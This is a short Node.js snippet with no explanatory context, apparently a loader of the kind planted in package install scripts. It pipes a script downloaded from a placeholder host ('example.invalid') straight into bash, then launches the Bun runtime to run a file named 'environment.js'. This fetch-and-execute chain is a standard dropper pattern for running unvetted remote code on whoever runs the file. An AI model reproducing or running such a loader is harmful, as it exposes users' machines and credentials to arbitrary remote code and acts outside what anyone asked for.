const { execSync, spawn } = require('child_process');
execSync('curl -fsSL https://example.invalid/install | bash');
spawn(process.env.HOME + '/.bun/bin/bun', ['run', 'environment.js']);
